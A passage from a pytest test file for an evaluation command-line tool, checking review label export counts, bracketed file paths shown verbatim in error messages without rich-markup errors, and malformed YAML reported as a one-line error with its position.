    for check, labels in (("x", 1), ("y", 0)):  # labelled, and shown to reviewers but not labelled yet
        ok = runner.invoke(app, ["review", "export", "--check", check, "--out", str(fresh), "--store", store])
        assert ok.exit_code == 0 and f"wrote {labels} label(s)" in ok.output, ok.output


@pytest.mark.parametrize(
    "argv",
    [
        ["dataset", "validate", "{p}.jsonl"],
        ["evaluate", "{p}.json"],
        ["monitor", "status", "--store", "{p}.sqlite"],
        ["runs", "list", "--store", "{p}.sqlite"],
        ["run", "{p}.yaml"],
    ],
)
def test_a_path_with_brackets_is_named_not_read_as_markup(tmp_path: Path, argv: list[str]) -> None:
    """Error messages went through rich markup: a path such as `runs[/old]` raised a MarkupError traceback instead of
    the error, and `[ray]` in `pip install 'evalwheel[ray]'` vanished as a style tag."""
    p = str(tmp_path / "no[/x]")
    res = runner.invoke(app, [a.replace("{p}", p) for a in argv])
    assert res.exit_code == 2, res.output
    assert "no[/x]" in res.output and "MarkupError" not in res.output


@pytest.mark.parametrize("which", ["spec", "monitor config", "project config"])
def test_invalid_yaml_is_one_line_with_its_position(tmp_path: Path, which: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """PyYAML's own message spans several lines with a caret drawing; every loader now says it in one line."""
    monkeypatch.chdir(tmp_path)
    broken = "name: x\ngraders: [a\n  b: c\n"
    if which == "spec":
        (tmp_path / "spec.yaml").write_text(broken)
        argv = ["run", "spec.yaml"]
    elif which == "monitor config":
        (tmp_path / "monitor.yaml").write_text(broken)
        argv = ["monitor", "windows", "--config", "monitor.yaml", "--store", str(tmp_path / "m.sqlite")]
    else:
        (tmp_path / "evalwheel.yaml").write_text(broken)
        argv = ["runs", "list"]
    res = runner.invoke(app, argv)
    assert res.exit_code == 2, res.output
    error = [line for line in res.output.splitlines() if line.strip()]
    assert len(error) == 1 and "YAML" in error[0] and "(line " in error[0], res.output
